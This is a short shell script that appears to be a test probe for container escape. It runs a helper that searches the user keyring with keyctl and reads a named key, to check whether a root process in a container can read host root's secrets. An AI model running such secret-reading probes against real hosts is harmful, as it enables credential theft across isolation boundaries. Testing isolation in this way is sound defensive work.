# Attack: ask the kernel for a key in "our" user keyring (@u). If we are host
# root, our user keyring is host root's: keyrings know no namespace but the user one.
echo "looking for key: $MC_KEY"
id
# mc-escape-host-keyring: keyctl(KEYCTL_SEARCH, @u, "user", NAME), then KEYCTL_READ.
if out=$(mc-escape-host-keyring "$MC_KEY" 2>&1); then
    echo "$out"
    echo "PROOF $(echo "$out" | sed -n 's/^payload: //p')"
else
    echo "$out"
fi
